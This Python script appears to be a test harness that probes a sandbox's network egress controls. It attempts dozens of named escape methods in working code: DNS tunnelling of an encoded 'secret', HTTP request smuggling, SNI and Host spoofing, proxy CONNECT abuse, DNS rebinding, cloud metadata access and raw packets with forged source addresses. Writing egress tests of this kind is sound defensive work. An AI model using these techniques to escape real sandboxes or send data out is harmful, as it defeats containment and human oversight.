"""Ways out of a box, each by its name. Runs inside the box, and in a plain namespace to see that they work at all.

Reads one JSON object from the first argument: the addresses to try ("at": way -> address), the name server ("dns"), the
names and addresses of the world, and a timeout. Tells how each way ended; the test outside
sees whether something got out.
"""

import ctypes
import errno
import fcntl
import json
import os
import socket
import ssl
import struct
import sys
import threading
import urllib.request

T = json.loads(sys.argv[1])
TIMEOUT = T["timeout"]
WAYS = {}
socket.setdefaulttimeout(TIMEOUT)
# Whom a way meets does not matter here, and reading authorities takes long on slow machines.
TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE


def way(f):
    WAYS[f.__name__] = f
    return f


def tcp(address, port, data=b"GET / HTTP/1.0\r\n\r\n", family=socket.AF_INET, proto=0):
    with socket.socket(family, socket.SOCK_STREAM, proto) as s:
        s.settimeout(TIMEOUT)
        s.connect((address, port))
        if data:
            s.sendall(data)
        return repr(s.recv(64))


def udp(address, port, data=b"out", answer=True, options=(), family=socket.AF_INET, proto=0, source=None):
    with socket.socket(family, socket.SOCK_DGRAM, proto) as s:
        s.settimeout(TIMEOUT)
        for level, name, value in options:
            s.setsockopt(level, name, value)
        if source:
            s.bind((source, 0))
        s.sendto(data, (address, port))
        return repr(s.recv(64)) if answer else "sent"


def question(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + struct.pack(">HH", kind, 1)


def ask(server, name, kind=1, port=53, by_tcp=False):
    """Asks a name server; the rcode and the addresses."""
    q = question(name, kind)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if by_tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((server, port))
        if by_tcp:
            s.sendall(struct.pack(">H", len(q)) + q)
            s.recv(2)
            a = s.recv(4096)
        else:
            s.send(q)
            a = s.recv(4096)
    found, at = [], len(q)
    for _ in range(struct.unpack(">H", a[6:8])[0]):
        while a[at] not in (0,) and a[at] < 0xC0:
            at += a[at] + 1
        at += 2 if a[at] >= 0xC0 else 1
        rtype, _, _, length = struct.unpack(">HHIH", a[at:at + 10])
        at += 10
        if rtype == 1:
            found.append(socket.inet_ntoa(a[at:at + 4]))
        at += length
    return a[3] & 15, found


def resolve(name):
    rcode, found = ask(T["dns"], name)
    if not found:
        raise OSError(f"{name}: rcode {rcode}, no address")
    return found[-1]


def tls(address, port=443, sni=None, host=None):
    with socket.create_connection((address, port), TIMEOUT) as plain:
        with TLS.wrap_socket(plain, server_hostname=sni) as s:
            s.sendall(f"GET / HTTP/1.1\r\nHost: {host or sni or address}\r\nConnection: close\r\n\r\n".encode())
            return repr(s.recv(64))


def http(address, *heads, port=80):
    """Sends requests on one connection and reads the answer of each."""
    answers = []
    with socket.create_connection((address, port), TIMEOUT) as s:
        for head in heads:
            s.sendall(head.encode())
            answers.append(s.recv(4096).split(b"\r\n")[0].decode())
    return repr(answers)


def get(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"


def hello(sni):
    """A ClientHello for a name, as bytes."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    s = TLS.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        s.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


# --- an address, without a name ---------------------------------------------------------------------------------------

@way
def tcp_to_an_address(at):
    return tcp(at, 80)


@way
def https_to_an_address(at):
    return tls(at)


@way
def https_with_the_address_as_name(at):
    return tls(at, sni=at)


@way
def tcp_to_another_port(at):
    return tcp(at, 9999)


@way
def tcp_to_ssh(at):
    return tcp(at, 22)


@way
def tcp_fast_open(at):
    with socket.socket() as s:
        s.settimeout(TIMEOUT)
        s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (at, 80))
        return repr(s.recv(64))


@way
def udp_to_an_address(at):
    return udp(at, 9999)


@way
def udp_in_fragments(at):
    return udp(at, 9999, b"x" * 6000)


@way
def quic_to_an_address(at):
    return udp(at, 443, b"\xc0\x00\x00\x00\x01" + b"\x00" * 1200, answer=False)


@way
def quic_to_an_allowed_name(at):
    return udp(resolve("quic.allowed.test"), 443, b"\xc0\x00\x00\x00\x01" + b"\x00" * 1200, answer=False)


@way
def ping(at):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT)
        s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01out", (at, 0))
        return repr(s.recv(64))


@way
def mail(at):
    return tcp(at, 25)


# --- DNS ---------------------------------------------------------------------------------------------------------------

@way
def dns_to_another_resolver(at):
    return repr(ask("8.8.8.8", "a.tunnel-udp.test"))


@way
def dns_to_another_resolver_by_tcp(at):
    return repr(ask("9.9.9.9", "a.tunnel-tcp.test", by_tcp=True))


@way
def dns_to_another_port(at):
    return repr(udp("8.8.8.8", 5353, question("a.tunnel-port.test")))


@way
def dns_tunnel_by_the_gateway(at):
    return repr(ask(T["dns"], "c2VjcmV0.tunnel-gateway.test", 16))


@way
def dns_tunnel_by_the_gateway_by_tcp(at):
    return repr(ask(T["dns"], "c2VjcmV0.tunnel-gateway-tcp.test", by_tcp=True))


@way
def dns_tunnel_below_an_allowed_name(at):
    return repr(ask(T["dns"], "c2VjcmV0.exact.test"))


@way
def dns_tunnel_by_null_records(at):
    return repr(ask(T["dns"], "c2VjcmV0.tunnel-null.test", 10))


@way
def dns_over_tls(at):
    return tls("1.1.1.1", 853, "one.one.one.one")


@way
def dns_over_https(at):
    return tls("1.1.1.1", 443, "cloudflare-dns.com")


@way
def dns_over_https_by_an_allowed_name(at):
    return tls("8.8.8.8", 443, "www.allowed.test")


@way
def dns_over_quic(at):
    return udp("9.9.9.9", 853, b"\xc0\x00\x00\x00\x01" + b"\x00" * 1200, answer=False)


# --- names -------------------------------------------------------------------------------------------------------------

@way
def a_name_that_is_not_allowed(at):
    return tls(resolve("other.test"), sni="other.test")


@way
def a_name_above_an_allowed_suffix(at):
    return tls(resolve("suffix.test"), sni="suffix.test")


@way
def a_name_that_only_ends_like_an_allowed_one(at):
    return tls(resolve("notallowed.test"), sni="notallowed.test")


@way
def an_allowed_name_at_another_address(at):
    return tls(at, sni="www.allowed.test")


@way
def an_allowed_name_at_another_address_http(at):
    return http(at, get("www.allowed.test"))


@way
def sni_of_a_neighbour_at_a_shared_address(at):
    return tls(resolve("good.shared.allowed.test"), sni="bad.shared.test")


@way
def host_of_a_neighbour_at_a_shared_address(at):
    return http(resolve("good.shared.allowed.test"), get("bad-host.shared.test"))


@way
def host_changes_on_an_open_connection(at):
    return http(resolve("good.shared.allowed.test"), get("good.shared.allowed.test"), get("bad-second.shared.test"))


@way
def two_requests_at_once(at):
    good = get("good.shared.allowed.test")
    return http(resolve("good.shared.allowed.test"), good + get("bad-pipelined.shared.test"))


@way
def a_second_host_header(at):
    head = "GET / HTTP/1.1\r\nHost: bad-double.shared.test\r\nHost: good.shared.allowed.test\r\n\r\n"
    return http(resolve("good.shared.allowed.test"), head)


@way
def a_request_hidden_in_a_body(at):
    inner = get("bad-smuggled.shared.test")
    head = ("POST / HTTP/1.1\r\nHost: good.shared.allowed.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n"
            "0\r\n\r\n%s" % (len(inner) + 5, inner))
    return http(resolve("good.shared.allowed.test"), head)


@way
def an_absolute_target(at):
    head = "GET http://bad-absolute.shared.test/ HTTP/1.1\r\nHost: good.shared.allowed.test\r\n\r\n"
    return http(resolve("good.shared.allowed.test"), head)


@way
def no_server_name(at):
    return tls(resolve("nosni.allowed.test"), host="nosni.allowed.test")


@way
def a_client_hello_in_pieces(at):
    whole = hello("bad-pieces.shared.test")
    with socket.create_connection((resolve("good.shared.allowed.test"), 443), TIMEOUT) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in range(0, len(whole), 40):
            s.sendall(whole[byte:byte + 40])
        first = s.recv(5)
        if first[:1] == b"\x16":
            # A server hello: the name was accepted.
            return tls(resolve("good.shared.allowed.test"), sni="bad-pieces.shared.test")
        return repr(first)


@way
def tls_inside_of_port_80(at):
    return tls(resolve("port80.allowed.test"), port=80, sni="bad.shared.test")


@way
def http_inside_of_port_443(at):
    return http(resolve("port443.allowed.test"), get("bad.shared.test"), port=443)


@way
def connect_through_an_allowed_server(at):
    address = resolve("www.allowed.test")
    return http(address, f"CONNECT {at}:443 HTTP/1.1\r\nHost: {at}:443\r\n\r\n")


@way
def connect_through_the_proxy(at):
    return http(T["gateway"], f"CONNECT {at}:443 HTTP/1.1\r\nHost: {at}:443\r\n\r\n", port=T["egress_port"])


@way
def a_request_to_the_proxy_itself(at):
    return http(T["gateway"], f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n\r\n", port=T["egress_port"])


@way
def a_redirect_to_a_private_address(at):
    address = resolve("www.allowed.test")
    request = urllib.request.Request(f"http://{address}/redirect?http://{at}/", headers={"Host": "www.allowed.test"})
    return repr(urllib.request.urlopen(request, timeout=TIMEOUT).read())


@way
def a_name_with_a_private_address(at):
    return tcp(resolve("private.allowed.test"), 80)


@way
def a_name_with_a_public_and_a_private_address(at):
    rcode, found = ask(T["dns"], "mixed.allowed.test")
    return repr([tcp(a, 80) for a in found or [at] if a == at] or tcp(at, 80))


@way
def a_name_that_changes_to_a_private_address(at):
    first = resolve("rebind.allowed.test")
    second = ask(T["dns"], "rebind.allowed.test")[1]
    return repr([first, second, tcp((second or [at])[-1], 80)])


@way
def an_alias_of_a_private_address(at):
    return tcp(resolve("alias.allowed.test"), 80)


@way
def an_allowed_name_with_a_denied_address(at):
    return tls(resolve("denied.allowed.test"), sni="denied.allowed.test")


# --- closed networks ---------------------------------------------------------------------------------------------------

@way
def metadata(at):
    return tcp("169.254.169.254", 80)


@way
def metadata_by_a_decimal_number(at):
    return urllib.request.urlopen("http://2852039166/", timeout=TIMEOUT).read().decode()


@way
def metadata_by_a_name(at):
    return tcp(resolve("meta.allowed.test"), 80)


@way
def metadata_by_udp(at):
    return udp("169.254.169.254", 9999)


@way
def metadata_elsewhere(at):
    return tcp("100.100.100.200", 80)


@way
def private_10(at):
    return tcp(at, 80)


@way
def private_172(at):
    return tcp(at, 80)


@way
def private_192(at):
    return tcp(at, 80)


@way
def private_by_ping(at):
    return ping(at)


@way
def private_although_allowed(at):
    return tcp(at, 80)


@way
def shared_address_space(at):
    return tcp(at, 80)


@way
def protocol_assignments(at):
    return tcp(at, 80)


@way
def benchmarking(at):
    return tcp(at, 80)


@way
def reserved(at):
    return udp(at, 9999, answer=False)


@way
def link_local(at):
    return udp(at, 9999, answer=False)


@way
def multicast(at):
    # All hosts of the link.
    return udp("224.0.0.1", 8080, answer=False)


@way
def broadcast(at):
    return udp("255.255.255.255", 443, answer=False, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])


@way
def another_box_of_the_pool(at):
    return tcp(at, 80)


# --- the host ----------------------------------------------------------------------------------------------------------

@way
def host_by_its_public_address(at):
    return tcp(T["host"], 22)


@way
def host_by_its_public_address_udp(at):
    return udp(T["host"], 5432)


@way
def host_by_the_gateway(at):
    return tcp(T["gateway"], 8080)


@way
def host_web_by_its_public_address(at):
    return http(T["host"], get("www.allowed.test"))


# --- what no decent socket does ----------------------------------------------------------------------------------------

def raw(protocol, packet, at):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        s.sendto(packet, (at, 0))
        return "sent"


@way
def raw_icmp(at):
    return raw(socket.IPPROTO_ICMP, b"\x08\x00\xf7\xfd\x00\x01\x00\x01", at)


@way
def raw_tunnel(at):
    return raw(4, b"\x45" + b"\x00" * 19, at)


@way
def raw_gre(at):
    return raw(47, b"\x00" * 8, at)


@way
def raw_with_a_foreign_source(at):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 31, 1, 0, 64, 17, 0, socket.inet_aton("203.0.113.77"), socket.inet_aton(at))
    return raw(socket.IPPROTO_RAW, head + struct.pack(">HHHH", 9, 9999, 11, 0) + b"out", at)


@way
def packet_socket(at):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as s:
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 31, 1, 0, 64, 17, 0, socket.inet_aton(T["me"]), socket.inet_aton(at))
        total = sum(struct.unpack(">10H", head))
        total = (total & 0xFFFF) + (total >> 16)
        head = head[:10] + struct.pack(">H", ~total & 0xFFFF) + head[12:]
        mac = open("/proc/net/arp").read().split("\n")[1].split()[3]
        s.sendto(head + struct.pack(">HHHH", 9, 9999, 11, 0) + b"out", ("eth0", 0x0800, 0, 0, bytes.fromhex(mac.replace(":", ""))))
        return "sent"


@way
def source_route(at):
    # Loose source routing: by an address that is allowed to one that is not.
    option = b"\x83\x07\x04" + socket.inet_aton(T["via"]) + b"\x00"
    return udp(at, 9999, answer=False, options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, option)])


@way
def record_route(at):
    option = b"\x07\x07\x04\x00\x00\x00\x00\x00"
    return udp(at, 9999, answer=False, options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, option)])


@way
def a_foreign_source_address(at):
    # IP_TRANSPARENT: any address may be bound, and sent from.
    return udp(at, 9999, answer=False, options=[(socket.IPPROTO_IP, 19, 1)], source="203.0.113.78")


@way
def a_marked_packet(at):
    return udp(at, 9999, options=[(socket.SOL_SOCKET, 36, 1)])


@way
def another_own_address(at):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        request = struct.pack("16sH2s4s8s", b"eth0:1", socket.AF_INET, b"\0\0", socket.inet_aton("10.99.0.77"), b"\0" * 8)
        fcntl.ioctl(s, 0x8916, request)
    return udp(at, 9999, answer=False, source="10.99.0.77")


# --- IPv6 --------------------------------------------------------------------------------------------------------------

@way
def ipv6(at):
    return udp("2001:db8:7::1", 9999, family=socket.AF_INET6, answer=False)


@way
def ipv6_by_tcp(at):
    return tcp("2001:db8:7::2", 80, family=socket.AF_INET6)


@way
def ipv4_mapped(at):
    return tcp(f"::ffff:{at}", 80, family=socket.AF_INET6)


# What changes its surroundings (addresses and routes), or reads what others' packets leave there: these come last, one by
# one. All others only wait for answers, most of them in vain, and do so side by side.
LAST = ("packet_socket", "another_own_address")


def main():
    outcomes = {}

    def attempt(name):
        try:
            outcomes[name] = "ok: " + str(WAYS[name](T["at"].get(name)))
        except OSError as e:
            outcomes[name] = errno.errorcode.get(e.errno, "") + " " + str(e)
        except Exception as e:
            outcomes[name] = repr(e)

    waiting = [threading.Thread(target=attempt, args=(name,)) for name in T["ways"] if name not in LAST]
    for thread in waiting:
        thread.start()
    for thread in waiting:
        thread.join()
    for name in T["ways"]:
        if name in LAST:
            attempt(name)
    print(json.dumps(outcomes))


if __name__ == "__main__":
    missing = set(WAYS) ^ set(T["ways"])
    assert T.get("some") or not missing, missing
    main()
